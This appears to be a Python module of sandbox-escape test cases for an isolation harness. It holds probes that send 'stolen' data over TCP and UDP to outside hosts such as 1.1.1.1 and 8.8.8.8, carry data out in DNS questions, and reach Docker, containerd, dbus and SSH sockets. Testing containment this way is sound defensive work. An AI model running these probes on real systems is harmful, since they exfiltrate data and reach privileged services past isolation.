"""Attacks over the network: out of the machine, to services on it, and over sockets that are no network."""

from attack import Attack

ATTACKS = (
    Attack(
        35,
        "reach out by TCP, UDP and raw packets, by IPv4 and IPv6",
        (
            """
import socket
for name, family, address in (
    ("IPv4", socket.AF_INET, ("127.0.0.1", KNOWN["tcp"])), ("IPv6", socket.AF_INET6, ("::1", KNOWN["tcp6"])),
    ("out", socket.AF_INET, ("1.1.1.1", 53)), ("out over IPv6", socket.AF_INET6, ("2606:4700:4700::1111", 53)),
):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sending:
            sending.settimeout(2)
            sending.connect(address)
            sending.sendall(b"stolen")
            got.append(f"TCP {name}")
    except OSError as error: tried.append(f"TCP {name}: {error}")
for name, family, address in (
    ("IPv4", socket.AF_INET, ("127.0.0.1", KNOWN["udp"])), ("out", socket.AF_INET, ("1.1.1.1", 53)),
):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as sending:
            sending.sendto(b"stolen", address)
            if name == "out": got.append("UDP out")
    except OSError as error: tried.append(f"UDP {name}: {error}")
for name, family in (("IPv4", socket.AF_INET), ("IPv6", socket.AF_INET6), ("packets", socket.AF_PACKET)):
    attempt(f"raw {name}", socket.socket, family, socket.SOCK_RAW, 255 if family != socket.AF_PACKET else 0)
""",
        ),
        quick=True,
    ),
    Attack(
        36,
        "carry data out in questions to a name server",
        (
            """
import socket
question = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6stolen\\7example\\3com\\0\\0\\1\\0\\1"
for address in (("127.0.0.1", KNOWN["udp"]), ("127.0.0.53", 53), ("8.8.8.8", 53)):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.sendto(question, address)
            if address[0] == "8.8.8.8": got.append("a question left the machine")
    except OSError as error: tried.append(f"{address}: {error}")
attempt("resolved", socket.getaddrinfo, "stolen.example.com", 80)
""",
        ),
    ),
    Attack(
        37,
        "use a service that listens on the machine's loopback",
        (
            """
import socket
for address in (("127.0.0.1", KNOWN["tcp"]), ("0.0.0.0", KNOWN["tcp"]), ("127.0.0.1", 4566), ("127.0.0.1", 22)):
    try:
        with socket.create_connection(address, 2) as asking:
            asking.sendall(b"stolen")
            got.append(f"{address}")
    except OSError as error: tried.append(f"{address}: {error}")
""",
        ),
    ),
    Attack(
        38,
        "use sockets of the machine's services: abstract ones and files",
        (
            """
import socket
places = ["\\0" + KNOWN["abstract"], KNOWN["socket"], "/var/run/docker.sock", "/run/containerd/containerd.sock",
          "/run/dbus/system_bus_socket", "/run/systemd/private"]
for place in places:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as asking:
                asking.connect(place)
                got.append(f"{place!r}")
        except OSError as error: tried.append(f"{place!r}: {error}")
""",
        ),
    ),
    Attack(
        39,
        "open sockets that speak to the kernel and the hypervisor",
        (
            """
import socket
for name, family, kind, protocol in (
    ("netlink", 16, socket.SOCK_RAW, 0), ("vsock", 40, socket.SOCK_STREAM, 0), ("alg", 38, socket.SOCK_SEQPACKET, 0),
    ("netfilter", 16, socket.SOCK_RAW, 12), ("bluetooth", 31, socket.SOCK_RAW, 1), ("xdp", 44, socket.SOCK_RAW, 0),
):
    attempt(name, socket.socket, family, kind, protocol)
""",
        ),
    ),
)
